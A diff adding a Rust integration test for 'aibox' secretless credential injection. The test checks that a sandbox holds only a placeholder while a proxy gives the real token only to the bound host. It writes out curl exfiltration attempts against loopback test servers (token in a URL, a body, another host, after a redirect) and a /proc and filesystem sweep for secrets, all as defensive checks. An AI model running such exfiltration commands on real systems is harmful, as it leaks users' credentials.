@@ -1,0 +1,359 @@
+//! Secretless credential injection, end to end: a token stored with
+//! `aibox auth add`, a sandbox that only ever holds a placeholder for it,
+//! and two servers on the host's loopback: a "forge" speaking HTTPS with
+//! its own CA (bound to the token) and another allowed host speaking plain
+//! HTTP. Both record every request they get, so the test can say where
+//! the real value went and where it did not. (A real forge cannot be
+//! reached from this machine; the local server answers like one.)
+
+use super::common::*;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::sync::{Arc, Mutex};
+
+/// The real token: only the host side may hold it.
+const REAL: &str = "ghp_REALtoken0123456789abcdefXYZ";
+
+/// What the forge says about a header: never the value itself.
+fn verdict(v: &str) -> String {
+    use base64::Engine as _;
+    let basic = v
+        .strip_prefix("Basic ")
+        .and_then(|b| base64::engine::general_purpose::STANDARD.decode(b).ok())
+        .map(|d| String::from_utf8_lossy(&d).into_owned())
+        .unwrap_or_default();
+    if v.is_empty() {
+        "none".into()
+    } else if v == format!("Bearer {REAL}") {
+        "real".into()
+    } else if basic == format!("x-access-token:{REAL}") {
+        "real-basic".into()
+    } else if v.contains("aibox-cred-") || basic.contains("aibox-cred-") {
+        "placeholder".into()
+    } else {
+        "other".into()
+    }
+}
+
+type Seen = Arc<Mutex<Vec<String>>>;
+
+/// Reads one request (head and a `content-length` body) from `r`.
+fn read_request(r: &mut impl BufRead) -> Option<(Vec<String>, String)> {
+    let mut head = Vec::new();
+    loop {
+        let mut h = String::new();
+        if r.read_line(&mut h).ok()? == 0 {
+            return None;
+        }
+        if h == "\r\n" {
+            break;
+        }
+        head.push(h.trim_end().to_string());
+    }
+    let len: usize = header(&head, "content-length").parse().unwrap_or(0);
+    let mut body = vec![0u8; len];
+    r.read_exact(&mut body).ok()?;
+    Some((head, String::from_utf8_lossy(&body).into_owned()))
+}
+
+fn header(head: &[String], name: &str) -> String {
+    head.iter()
+        .find_map(|h| {
+            let (k, v) = h.split_once(':')?;
+            k.eq_ignore_ascii_case(name).then(|| v.trim().to_string())
+        })
+        .unwrap_or_default()
+}
+
+/// The forge: `/redirect` sends the client to the other host, `/echo`
+/// answers with the Authorization header it got (a reflecting endpoint),
+/// anything else with a verdict on the credentials it got.
+fn forge(config: Arc<rustls::ServerConfig>, other_port: u16, seen: Seen) -> u16 {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for s in l.incoming().flatten() {
+            let (config, seen) = (config.clone(), seen.clone());
+            std::thread::spawn(move || {
+                let Ok(conn) = rustls::ServerConnection::new(config) else {
+                    return;
+                };
+                let mut tls = rustls::StreamOwned::new(conn, s);
+                let Some((head, body)) = read_request(&mut BufReader::new(&mut tls)) else {
+                    return;
+                };
+                seen.lock()
+                    .unwrap()
+                    .push(format!("{}\n\n{body}", head.join("\n")));
+                let path = head
+                    .first()
+                    .and_then(|l| l.split(' ').nth(1))
+                    .unwrap_or("/")
+                    .to_string();
+                let auth = header(&head, "authorization");
+                let (status, extra, out) = if path == "/redirect" {
+                    (
+                        "302 Found",
+                        format!("Location: http://other.test:{other_port}/landing\r\n"),
+                        String::new(),
+                    )
+                } else if path == "/echo" {
+                    ("200 OK", String::new(), format!("you sent: {auth}\n"))
+                } else {
+                    let v = serde_json::json!({
+                        "auth": verdict(&auth),
+                        "private_token": verdict(&header(&head, "private-token")),
+                        "path": path,
+                    });
+                    ("200 OK", String::new(), v.to_string())
+                };
+                let _ = tls.write_all(
+                    format!(
+                        "HTTP/1.1 {status}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n{out}",
+                        out.len()
+                    )
+                    .as_bytes(),
+                );
+                tls.conn.send_close_notify();
+                let _ = tls.flush();
+            });
+        }
+    });
+    port
+}
+
+/// Another allowed host, plain HTTP, recording what reaches it.
+fn other(seen: Seen) -> u16 {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut s in l.incoming().flatten() {
+            let seen = seen.clone();
+            std::thread::spawn(move || {
+                let Some((head, body)) = read_request(&mut BufReader::new(&mut s)) else {
+                    return;
+                };
+                seen.lock()
+                    .unwrap()
+                    .push(format!("{}\n\n{body}", head.join("\n")));
+                let _ = s.write_all(
+                    b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nlanded\n",
+                );
+            });
+        }
+    });
+    port
+}
+
+/// Every file under `dir` whose bytes contain `needle`.
+fn files_containing(dir: &std::path::Path, needle: &[u8]) -> Vec<String> {
+    let mut hits = Vec::new();
+    let Ok(rd) = std::fs::read_dir(dir) else {
+        return hits;
+    };
+    for e in rd.flatten() {
+        let p = e.path();
+        let Ok(m) = std::fs::symlink_metadata(&p) else {
+            continue;
+        };
+        if m.is_dir() {
+            hits.extend(files_containing(&p, needle));
+        } else if m.is_file()
+            && let Ok(b) = std::fs::read(&p)
+            && b.windows(needle.len()).any(|w| w == needle)
+        {
+            hits.push(p.display().to_string());
+        }
+    }
+    hits
+}
+
+all_backends!(only_a_placeholder_enters_and_only_the_bound_host_gets_the_token, |mut c: Ctx| {
+    let (ca_pem, config) = tls_server(&["forge.test"]);
+    let ca = c.dir.path().join("forge-ca.pem");
+    std::fs::write(&ca, ca_pem).unwrap();
+    let (forge_seen, other_seen): (Seen, Seen) = Default::default();
+    let op = other(other_seen.clone());
+    let fp = forge(config, op, forge_seen.clone());
+    c.add_config(&format!(
+        "network:
+  allowed_domains: [\"forge.test:{fp}\", \"127.0.0.1:{fp}\", \"other.test:{op}\", \"127.0.0.1:{op}\"]
+  resolve: {{forge.test: 127.0.0.1, other.test: 127.0.0.1}}
+credentials:
+  upstream_ca: {}
+",
+        ca.display()
+    ));
+    let bound = format!("forge.test:{fp}");
+    ok(&c.out_with_input(
+        &["auth", "add", "git-token", "--host", &bound],
+        REAL.as_bytes(),
+    ));
+    let ws = c.ws.display().to_string();
+    ok(&c.out(&["start", "-w", &ws, "--name", "inj"]));
+    let sh = |script: &str| c.out(&["exec", "--name", "inj", "--", "sh", "-c", script]);
+
+    // Inside: a placeholder, and the CA that lets the proxy read requests
+    // to the forge (and only the forge).
+    let ph = ok(&sh("printf %s \"$AIBOX_GIT_TOKEN\""));
+    assert!(ph.starts_with("aibox-cred-git-token-"), "{ph}");
+    let url = format!("https://forge.test:{fp}");
+    let json = |out: &str| -> serde_json::Value {
+        serde_json::from_str(out).unwrap_or_else(|e| panic!("{e}: {out}"))
+    };
+
+    // Through the proxy port (CONNECT): Bearer, Basic and a custom header
+    // get the real value.
+    let v = json(&ok(&sh(&format!(
+        "curl -sS -H \"Authorization: Bearer $AIBOX_GIT_TOKEN\" -H \"Private-Token: $AIBOX_GIT_TOKEN\" {url}/api"
+    ))));
+    assert_eq!((v["auth"].as_str(), v["private_token"].as_str()), (Some("real"), Some("other")), "{v}");
+    let v = json(&ok(&sh(&format!(
+        "curl -sS -u \"x-access-token:$AIBOX_GIT_TOKEN\" {url}/api"
+    ))));
+    assert_eq!(v["auth"], "real-basic", "{v}");
+    // Transparently (no proxy variables): the same.
+    let v = json(&ok(&sh(&format!(
+        "curl -sS --noproxy '*' -H \"Authorization: Bearer $AIBOX_GIT_TOKEN\" {url}/api"
+    ))));
+    assert_eq!(v["auth"], "real", "{v}");
+
+    // Exfiltration attempts: each refused by the proxy (403), none
+    // reaching a server with the real value.
+    let code = |script: String| {
+        let out = sh(&script);
+        stdout(&out).trim().to_string()
+    };
+    for (what, script) in [
+        (
+            "in a URL",
+            format!("curl -sS -o /dev/null -w '%{{http_code}}' \"{url}/api?token=$AIBOX_GIT_TOKEN\""),
+        ),
+        (
+            "in a body",
+            format!("curl -sS -o /dev/null -w '%{{http_code}}' -d \"token=$AIBOX_GIT_TOKEN\" {url}/api"),
+        ),
+        (
+            "to another allowed host",
+            format!(
+                "curl -sS -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $AIBOX_GIT_TOKEN\" http://other.test:{op}/"
+            ),
+        ),
+        (
+            "after a redirect from the bound host",
+            format!(
+                "curl -sS -L --location-trusted -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $AIBOX_GIT_TOKEN\" {url}/redirect"
+            ),
+        ),
+        (
+            "a made-up placeholder",
+            format!(
+                "curl -sS -o /dev/null -w '%{{http_code}}' -H 'Authorization: Bearer aibox-cred-git-token-00000000000000000000000000000000' {url}/api"
+            ),
+        ),
+    ] {
+        assert_eq!(code(script), "403", "placeholder {what} was not refused");
+    }
+    // A reflecting endpoint cannot hand the value back.
+    let echoed = ok(&sh(&format!(
+        "curl -sS -H \"Authorization: Bearer $AIBOX_GIT_TOKEN\" {url}/echo"
+    )));
+    assert!(echoed.starts_with("you sent: Bearer ****"), "{echoed}");
+    let echoed = ok(&sh(&format!(
+        "curl -sS -u \"x-access-token:$AIBOX_GIT_TOKEN\" {url}/echo"
+    )));
+    assert!(!echoed.contains(REAL) && echoed.contains('*'), "{echoed}");
+
+    // Nowhere inside: environments and command lines of every process,
+    // and the places a sandbox writes or reads its settings. (The needle
+    // is split so that this script's own command line does not hold it.)
+    let (a, b) = REAL.split_at(10);
+    let found = stdout(&sh(&format!(
+        "A='{a}'; B='{b}'; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do grep -lF \"$A$B\" \"$f\" 2>/dev/null; done; grep -rlF \"$A$B\" /etc /tmp /var/tmp /run /home /root {ws} 2>/dev/null; env | grep -F \"$A$B\"; true"
+    )));
+    assert_eq!(found.trim(), "", "the token is inside the sandbox");
+
+    // The forge got the value in headers only; the other host never got
+    // the value nor the placeholder.
+    for r in forge_seen.lock().unwrap().iter() {
+        for line in r.lines().filter(|l| l.contains(REAL)) {
+            assert!(line.to_ascii_lowercase().starts_with("authorization: bearer "), "{r}");
+        }
+        assert!(!r.contains("token=aibox-cred") && !r.contains(&ph), "{r}");
+    }
+    for r in other_seen.lock().unwrap().iter() {
+        assert!(!r.contains(REAL) && !r.contains("aibox-cred"), "{r}");
+    }
+
+    // The supervisor holds the value in memory only.
+    let st: serde_json::Value =
+        serde_json::from_str(&ok(&c.out(&["status", "--name", "inj", "--format", "json"])))
+            .unwrap();
+    let pid = &st["supervisor_pid"];
+    for f in ["environ", "cmdline"] {
+        let b = std::fs::read(format!("/proc/{pid}/{f}")).unwrap();
+        assert!(!String::from_utf8_lossy(&b).contains(REAL), "supervisor {f}");
+    }
+    let shown = serde_json::to_string(&st).unwrap();
+    assert!(shown.contains("git-token (git-token)") && !shown.contains(REAL), "{shown}");
+
+    ok(&c.out(&["stop", "--name", "inj"]));
+    let events = audit_events(&c, "inj");
+    let of = |t: &str| -> Vec<&serde_json::Value> {
+        events.iter().filter(|e| e["event_type"] == t).collect()
+    };
+    let issue = of("credential.issue");
+    assert_eq!(issue.len(), 1, "{issue:?}");
+    assert_eq!(issue[0]["details"]["mode"], "placeholder");
+    let uses = of("credential.use");
+    let allowed = uses
+        .iter()
+        .filter(|e| e["details"]["decision"] == "allow")
+        .count();
+    assert!(allowed >= 4, "{uses:?}");
+    let denied: Vec<&&serde_json::Value> = uses
+        .iter()
+        .filter(|e| e["details"]["decision"] == "deny")
+        .collect();
+    assert!(denied.len() >= 5, "{denied:?}");
+    assert!(denied.iter().all(|e| e["severity"] == "high"), "{denied:?}");
+    for place in ["url", "body", "header"] {
+        assert!(
+            denied.iter().any(|e| e["details"]["where"] == place),
+            "no refusal for a placeholder in a {place}: {denied:?}"
+        );
+    }
+    assert!(
+        of("falco.alert")
+            .iter()
+            .any(|e| e["details"]["rule_id"] == "aibox-credential-misuse")
+    );
+    assert_eq!(of("credential.revoke").len(), 1);
+    // Not in any log or state aibox keeps (the store is encrypted).
+    for dir in [&c.data, &c.runtime] {
+        let hits = files_containing(dir, REAL.as_bytes());
+        assert!(hits.is_empty(), "the token is in {hits:?}");
+    }
+
+    // A new sandbox gets a new placeholder; the old one is refused.
+    ok(&c.out(&["start", "-w", &ws, "--name", "inj2"]));
+    let ph2 = ok(&c.out(&[
+        "exec", "--name", "inj2", "--", "sh", "-c", "printf %s \"$AIBOX_GIT_TOKEN\"",
+    ]));
+    assert!(ph2.starts_with("aibox-cred-git-token-") && ph2 != ph);
+    let old = c.out(&[
+        "exec",
+        "--name",
+        "inj2",
+        "--",
+        "sh",
+        "-c",
+        &format!("curl -sS -w '%{{http_code}}' -H 'Authorization: Bearer {ph}' {url}/api"),
+    ]);
+    let old = stdout(&old);
+    assert!(
+        old.ends_with("403") && old.contains("no credential of this sandbox"),
+        "{old}"
+    );
+    ok(&c.out(&["stop", "--name", "inj2"]));
+});
